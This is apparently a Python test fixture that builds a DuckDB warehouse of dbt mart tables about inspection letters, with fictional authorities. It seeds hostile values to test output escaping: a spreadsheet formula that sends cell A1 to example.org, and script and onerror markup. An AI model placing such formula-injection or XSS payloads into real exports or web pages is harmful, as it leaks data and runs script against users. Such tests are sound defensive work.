"""A small warehouse as dbt leaves it: the marts as their models declare them, with hostile text in the letters."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from datetime import UTC, date, datetime
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import duckdb
import yaml

from publishers import CheckOutcome, ReleaseFacts

MODELS = Path(__file__).parents[2] / "dbt_project" / "models" / "marts"
REFRESHED_AT = datetime(2026, 11, 21, 21, 30, 45, tzinfo=UTC)

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'
MARKUP = "<script>document.title='run'</script><img src=x onerror=alert(1)> & \"quoted\""
ODD = "A bell \x07, an escape \x1b, an emoji 👪, a comma, a “quote”\tand a tab"
CROP = "crops/0123456789abcdef.png"
LONG = ("A sentence of a letter that does not end. " * 89 + "A sentence of a letter that does not end.\n") * 10

Rows = Mapping[str, list[dict[str, object]]]
DatabaseOf = Callable[[Rows], Path]


def inspection(report_id: str, urn: int, local_authority: str, **facts: object) -> dict[str, object]:
    return {
        "report_id": report_id,
        "urn": urn,
        "local_authority": local_authority,
        "la_code": "901",
        "region_code": "YH",
        "region": "Yorkshire and the Humber",
        "publication_date": date(2023, 7, 14),
        "letter_date": date(2023, 7, 14),
        "inspection_start_date": date(2023, 5, 15),
        "inspection_end_date": date(2023, 5, 19),
        "theme": "neglect",
        "theme_quote": "children who may be neglected",
        "priority_action_areas_stated_none": False,
        "has_priority_action": False,
        "written_statement_required": True,
        "written_statement_lead": "the director of children’s services",
        "written_statement_due_date": date(2023, 10, 20),
        "page_count": 9,
        "report_url": f"https://files.example.org/v1/file/{report_id}",
        "file_sha256": "ab" * 32,
        "is_latest": True,
        "extraction_status": "passed",
        "family": "2022 on",
        "is_inspection_year_inferred": False,
        "fetched_at": datetime(2026, 11, 20, 5, 0, 1, 250000),  # noqa: DTZ001 - the warehouse keeps UTC without a zone
        "word_count": 3200,
    } | facts


def section(report_id: str, number: int, kind: str, heading: str, text: str) -> dict[str, object]:
    return {
        "report_id": report_id,
        "section_number": number,
        "level": 1,
        "kind": kind,
        "heading": heading,
        "start_page": number,
        "end_page": number + 1,
        "text": text,
        "bullet_count": 0,
        "sub_bullet_count": 0,
        "paragraph_count": 1,
        "summary": text[:200],
    }


def finding(
    report_id: str, number: int, section_number: int, text: str, level: int = 1, **facts: object
) -> dict[str, object]:
    return {
        "report_id": report_id,
        "finding_number": number,
        "section_number": section_number,
        "kind": "strengths",
        "level": level,
        "parent_finding_number": None if level == 1 else 1,
        "text": text,
        "page": 3,
        "x0": 72.0,
        "top": 100.5,
        "x1": 520.25,
        "bottom": 130.0,
        "polarity": "strength",
        "form": "bullet",
        "is_itemised": True,
        "paragraph_number": number,
        "end_page": 3,
    } | facts


def with_inspections(findings: list[dict[str, object]], *inspections: dict[str, object]) -> list[dict[str, object]]:
    """Give each finding the facts of its inspection, as dbt does."""
    by_report = {row["report_id"]: row for row in inspections}
    copied = ("local_authority", "region", "theme", "publication_date", "family")
    return [
        {name: by_report[row["report_id"]].get(name) for name in copied}
        | {"finding_url": f"{by_report[row['report_id']]['report_url']}#page={row['page']}"}
        | row
        for row in findings
    ]


def problem(problem_key: str, report_id: str, local_authority: str, message: str) -> dict[str, object]:
    return {
        "problem_key": problem_key,
        "report_id": report_id,
        "local_authority": local_authority,
        "gate": "extracted",
        "expectation": "expect_column_values_to_be_in_set",
        "rule": "A section's heading is recognised.",
        "message": message,
        "severity": "warning",
        "table_name": "sections",
        "column_name": "heading",
        "page": 2,
        "crop_path": CROP,
        "seen": MARKUP,
        "first_seen": REFRESHED_AT.replace(tzinfo=None),
        "is_open": True,
    }


def correction(report_id: str, status: str, **cell: object) -> dict[str, object]:
    return {
        "report_id": report_id,
        "local_authority": "Marlow’s Reach",
        "table_name": "inspections",
        "column_name": "inspection_start_date",
        "original_value": "2023-05-01",
        "corrected_value": "2023-05-15",
        "reason": "Page 1 says 15 May.",
        "corrected_by": "A. Reader",
        "corrected_on": date(2026, 11, 20),
        "status": status,
    } | cell


def authority(urn: int, local_authority: str, inspection_count: int, neighbours: str) -> dict[str, object]:
    return {
        "urn": urn,
        "local_authority": local_authority,
        "la_name": local_authority,
        "la_code": str(urn)[-3:],
        "region_name": "Yorkshire and the Humber",
        "statistical_neighbours": neighbours,
        "inspection_count": inspection_count,
        "unlisted_letter_count": 0,
        "latest_report_id": f"5020000{inspection_count}" if inspection_count else None,
    }


def words_in(release_name: str, value: float, previous: float | None = None) -> dict[str, object]:
    metric = {"metric": "words", "segment": "all letters", "value": value, "previous_value": previous}
    return {"release_name": release_name, **metric}


def change(kind: str, report_id: str, local_authority: str, **cell: object) -> dict[str, object]:
    return {
        "change": kind,
        "report_id": report_id,
        "local_authority": local_authority,
        "table_name": "inspections",
        "row_key": "",
    } | cell


def small_rows() -> dict[str, list[dict[str, object]]]:
    """Three letters about two authorities and one authority without any."""
    first, second, older = "50200001", "50200002", "80002 letter - 4 may 2018"
    quiet = {"theme": None, "written_statement_required": False, "priority_action_areas_stated_none": True}
    corrected = {"publication_date": date(2024, 1, 9), "extraction_status": "corrected"}
    earlier = {"publication_date": date(2018, 5, 4), "is_latest": False, "family": "2016 to 2020"}
    earlier |= {"report_url": "archive/older.pdf"}
    inspections = [
        inspection(first, 90001, "Ashby & Vale", extraction_status="flagged", has_priority_action=True),
        inspection(second, 90002, "Marlow’s Reach", **corrected, **quiet),
        inspection(older, 90002, "Marlow’s Reach", **earlier),
    ]
    findings = [
        finding(first, 1, 2, FORMULA),
        finding(first, 2, 2, "Under it.", level=2),
        finding(first, 3, 2, "The last finding."),
        finding(older, 1, 1, "An older finding."),
    ]
    return {
        "inspections": inspections,
        "sections": [
            section(first, 1, "headline_findings", "Headline findings", f"{MARKUP}\n{ODD}"),
            section(first, 2, "strengths", "Strengths", f"Before the list.\n{FORMULA}\nUnder it.\nThe last finding."),
            section(first, 3, "priority_action", "Area for priority action", "One area."),
            section(first, 4, "case_study", "Case study: the box", "In the box."),
            section(second, 1, "main_findings", "Main findings", LONG),
            section(second, 2, "priority_action", "Areas for priority action", "There are none."),
            section(older, 1, "strengths", "Key strengths", "An older finding."),
        ],
        "findings": with_inspections(findings, *inspections),
        "case_studies": [
            {
                "report_id": first,
                "case_study_number": 1,
                "section_number": 4,
                "title": "Case study: the box",
                "polarity": "strength",
                "text": "In the box.",
                "start_page": 4,
                "end_page": 4,
            }
        ],
        "footnotes": [{"report_id": first, "footnote_number": 1, "marker": "1", "text": "A note.", "page": 2}],
        "signatories": [{"report_id": first, "position": 1, "office": "National Director", "organisation": "Ofsted"}],
        "extraction_problems": [problem("p1", first, "Ashby & Vale", f"Heading not recognised: “{MARKUP}”.")],
        "corrections": [
            correction(second, "applied", original_value=MARKUP),
            correction(older, "rejected", column_name="theme", status_detail="extracted now: neglect"),
            correction("of another source", "not_listed", local_authority=None),
        ],
        "changes": [
            change("new", first, "Ashby & Vale"),
            change("changed", second, "Marlow’s Reach", column_name="theme", old_value=FORMULA, new_value=MARKUP),
            change("gone", "50100009", "Nowhere"),
        ],
        "local_authorities": [
            authority(90001, "Ashby & Vale", 1, "003 002"),
            authority(90002, "Marlow’s Reach", 2, "001"),
            authority(90003, "Never Seen", 0, "002"),
        ],
        "section_kinds": [{"kind": "strengths", "name": "Strengths", "definition": "What works well."}],
        "themes": [{"theme": "neglect", "also_known_as": "", "inspection_count": 2}],
        "outcomes_summary": [
            {"urn": 90001, "local_authority": "Ashby & Vale", "summary_key_strengths": FORMULA},
            {"urn": 90002, "local_authority": "Marlow’s Reach", "inspection_start_date": date(2023, 5, 15)},
        ],
        "outcomes_expanded": [
            {"urn": 90001, "report_id": first, "local_authority": "Ashby & Vale", "headline_findings": MARKUP},
            {"urn": 90002, "report_id": second, "local_authority": "Marlow’s Reach", "main_findings": LONG},
            {"urn": 90002, "report_id": older, "local_authority": "Marlow’s Reach", "key_strengths": ODD},
        ],
        "publications": [{"report_id": first, "urn": 90001, "label": "JTAI", "is_jtai": True}],
        "letter_versions": [
            {"report_id": first, "file_sha256": "ab" * 32, "version_status": "current", "is_current": True}
        ],
        "release_metrics": [
            words_in("2026-11-14T213045Z", 4000.0),
            words_in("2026-11-21T213045Z", 3200.0, previous=4000.0),
        ],
    }


def build_warehouse(path: Path, rows: Rows) -> Path:
    """Write schema `marts` with every table that dbt declares, its comments, and `rows`."""
    path.write_bytes(_empty_warehouse())
    with duckdb.connect(str(path)) as con:
        con.begin()
        for table_name, table_rows in rows.items():
            for row in table_rows:
                _insert(con, table_name, row)
        con.commit()
    return path


@cache
def _empty_warehouse() -> bytes:
    """The file of a warehouse without rows, made once: to read what dbt declares takes longer than all the rest."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "empty.duckdb"
        with duckdb.connect(str(path)) as con:
            con.begin()
            con.execute("CREATE SCHEMA marts")
            for model_file in sorted(MODELS.glob("*.yml")):
                for model in yaml.safe_load(model_file.read_text("utf-8"))["models"]:
                    _create(con, model)
            con.commit()
        return path.read_bytes()


def _create(con: duckdb.DuckDBPyConnection, model: dict[str, object]) -> None:
    name, columns = model["name"], model["columns"]
    assert isinstance(columns, list)
    declared = ", ".join(f"{column['name']} {column['data_type']}" for column in columns)
    con.execute(f"CREATE TABLE marts.{name} ({declared})")
    con.execute(f"COMMENT ON TABLE marts.{name} IS 'Rows of {name}.'")
    for column in columns:
        con.execute(f"COMMENT ON COLUMN marts.{name}.{column['name']} IS 'The {name} column {column['name']}.'")


def _insert(con: duckdb.DuckDBPyConnection, table_name: str, row: dict[str, object]) -> None:
    marks = ", ".join("?" for _ in row)
    con.execute(f"INSERT INTO marts.{table_name} ({', '.join(row)}) VALUES ({marks})", list(row.values()))  # noqa: S608


def facts(**changed: object) -> ReleaseFacts:
    known: dict[str, object] = {
        "source": "report site",
        "run_id": "run-1",
        "refreshed_at": REFRESHED_AT,
        "versions": {"project": "0.1.0", "extractor": "1", "duckdb": "1.5.5"},
        "checks": [CheckOutcome("marts/inspections", "the_table_has_rows", "critical", True, 0)],
        "input_files": {"50200001": "ab" * 32},
        "previous_release": None,
        "inputs": {"source.json": b"{}"},
        "fingerprint": {"listing": "cd" * 32},
    }
    return ReleaseFacts(**(known | changed))  # type: ignore[arg-type]


def tags_of_last_finding() -> dict[str, list[dict[str, object]]]:
    """The tables of tags, by name: two topics of the first letter's third finding, one of them shown, and an agency."""
    place: dict[str, object] = {"report_id": "50200001", "finding_number": 3}
    return {
        "topics": [
            {"topic": "a", "name": "Early help", "is_shown": True},
            {"topic": "b", "name": "B", "is_shown": False},
        ],
        "agencies": [{"agency": "c", "name": "Police", "is_shown": True}],
        "finding_topics": [place | {"topic": "a"}, place | {"topic": "b"}],
        "finding_agencies": [place | {"agency": "c"}],
    }
